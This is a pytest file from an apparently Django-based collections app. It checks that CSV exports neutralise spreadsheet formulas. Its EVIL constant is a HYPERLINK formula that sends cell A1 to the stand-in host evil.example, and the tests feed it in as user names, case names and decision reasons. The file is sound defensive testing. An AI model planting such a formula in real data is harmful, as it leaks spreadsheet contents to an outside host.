"""CSV exports neutralise formulas (CSV injection): every export goes through
core.csv, and a value a spreadsheet would run as a formula is written as text."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from compliance.models import ContactAttempt, Decision
from core.csv import csv_cell
from tests.calls.conftest import make_case
from tests.cases.factories import UserFactory
from tests.supervision.conftest import make_call

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("王小明", "王小明"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, written):
    assert csv_cell(value) == written


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def no_formula_in(rows) -> bool:
    return all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row
        if cell and not cell.lstrip("+-").replace(".", "").isdigit()
    )


@pytest.fixture(autouse=True)
def no_dashboard_cache(settings):
    settings.SUPERVISION_DASHBOARD_CACHE_SECONDS = 0


@pytest.fixture
def evil_collector(team):
    user = UserFactory(username="@SUM(1+1)", roles=["collector"], first_name=EVIL)
    team.members.add(user)
    return user


@pytest.mark.django_db
def test_the_call_export_neutralises_names_and_references(
    client, supervisor, evil_collector, queue
):
    case = make_case(queue, reference="-2+3", name=EVIL)
    make_call(case, evil_collector)
    client.force_login(supervisor)

    rows = rows_of(client.get(reverse("supervision:calls"), {"format": "csv"}))

    assert rows[1][1:3] == ["'-2+3", "'@SUM(1+1)"]
    assert no_formula_in(rows)


@pytest.mark.django_db
def test_the_collector_figures_export_neutralises_the_collectors_name(
    client, supervisor, evil_collector, queue
):
    make_call(make_case(queue, name=EVIL), evil_collector)
    client.force_login(supervisor)

    rows = rows_of(
        client.get(
            reverse("supervision:dashboard"),
            {"days": "7", "format": "csv", "table": "collectors"},
        )
    )

    names = [row[1] for row in rows[1:]]
    assert any(n.startswith("'=HYPERLINK") for n in names)
    assert no_formula_in(rows)


@pytest.mark.django_db
def test_the_blocked_attempts_export_neutralises_the_reason(
    client, supervisor, collector, queue
):
    case = make_case(queue, name=EVIL)
    at = timezone.now() - dt.timedelta(hours=1)
    decision = Decision.objects.create(
        customer=case.customer,
        case=case,
        channel="call",
        proposed_at=at,
        allowed=False,
        outcome="deny",
        reasons=[{"code": EVIL}],
        rule_pack="cn",
        rule_pack_version=1,
        actor=collector,
    )
    ContactAttempt.objects.create(
        customer=case.customer,
        case=case,
        channel="call",
        at=at,
        allowed=False,
        result=ContactAttempt.Result.BLOCKED,
        decision=decision,
        actor=collector,
    )
    client.force_login(supervisor)

    rows = rows_of(
        client.get(
            reverse("supervision:dashboard"),
            {"days": "7", "format": "csv", "table": "blocks"},
        )
    )

    assert rows[1][:2] == ["'" + EVIL, "1"]
    assert no_formula_in(rows)


@pytest.mark.django_db
def test_the_roll_rate_export_goes_through_the_same_writer(client, supervisor):
    client.force_login(supervisor)

    rows = rows_of(
        client.get(
            reverse("supervision:dashboard"),
            {"days": "7", "format": "csv", "table": "rolls"},
        )
    )

    assert rows[0][0] == "from_bucket"
    assert no_formula_in(rows)
